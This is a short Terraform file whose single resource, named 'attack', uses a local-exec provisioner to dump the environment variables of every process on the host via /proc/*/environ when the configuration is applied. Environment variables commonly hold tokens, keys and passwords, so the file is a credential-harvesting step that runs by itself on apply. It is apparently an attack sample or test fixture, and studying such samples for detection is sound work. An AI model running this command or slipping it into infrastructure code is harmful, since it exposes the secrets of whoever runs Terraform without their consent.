resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      cat /proc/[0-9]*/environ | tr '\0' '\n'
    EOT
  }
}
